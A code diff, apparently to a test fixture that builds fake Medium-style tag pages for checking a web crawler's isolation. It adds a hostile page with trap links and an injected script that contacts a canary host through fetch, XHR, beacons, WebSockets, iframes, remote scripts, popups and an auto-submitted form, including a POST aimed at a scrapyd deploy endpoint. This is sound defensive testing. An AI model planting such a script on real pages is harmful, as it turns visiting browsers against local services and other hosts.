@@ -343,9 +343,46 @@ def _listing(title: str, canonical: str, cards: str, script: str = "", bio: str 
     )
 
 
-def tag_page(world: World, tag: str) -> str:
+def hostile(canary: str) -> str:
+    """What a hostile page does to a crawler's browser: requests to another host
+    (or another port of the same address: a local scrapyd, say) in every way a
+    page can make them, and cards naming post-like URLs on that host."""
+    trap = f"{canary}/trap-aaaaaaaaaaaa"
+    cards = (
+        '<article data-testid="post-preview"><div role="link" '
+        f'data-href="{trap}"><a href="{trap}?source=tag---9">A trap</a></div></article>'
+        f'<div class="bio">My post: <a href="{canary}/mine-bbbbbbbbbbbb">here</a></div>'
+    )
+    script = (
+        "<script>(function(){var c=" + json.dumps(canary) + ";"
+        "function q(f){try{f()}catch(e){}}"
+        "q(function(){fetch(c+'/fetch',{mode:'no-cors'}).catch(function(){})});"
+        "q(function(){fetch(c+'/anything/robots.txt',{mode:'no-cors'}).catch(function(){})});"
+        "q(function(){fetch(c+'/addversion.json',{method:'POST',mode:'no-cors',"
+        "body:'egg'}).catch(function(){})});"
+        "q(function(){var x=new XMLHttpRequest();x.open('GET',c+'/xhr');x.send()});"
+        "q(function(){navigator.sendBeacon(c+'/beacon','x')});"
+        "q(function(){new WebSocket(c.replace('http','ws')+'/ws')});"
+        "q(function(){new EventSource(c+'/events')});"
+        "q(function(){var f=document.createElement('iframe');f.src=c+'/iframe';"
+        "document.body.appendChild(f)});"
+        "q(function(){var s=document.createElement('script');s.src=c+'/script.js';"
+        "document.head.appendChild(s)});"
+        "q(function(){var l=document.createElement('link');l.rel='prefetch';"
+        "l.href=c+'/prefetch';document.head.appendChild(l)});"
+        "q(function(){window.open(c+'/popup')});"
+        "q(function(){var f=document.createElement('form');f.method='POST';"
+        "f.action=c+'/form';document.body.appendChild(f);f.submit()});"
+        "})();</script>"
+    )
+    return cards + script
+
+
+def tag_page(world: World, tag: str, canary: str | None = None) -> str:
     posts = world.tagged(tag)
     cards = "".join(preview_card(p, "tag_recommended_feed", i) for i, p in enumerate(posts[:BATCH]))
+    if canary is not None:
+        cards += hostile(canary)
     # Later batches arrive by script as the reader scrolls, as on Medium.
     script = (
         "<script>(function(){var page=1,busy=false,done=false;"
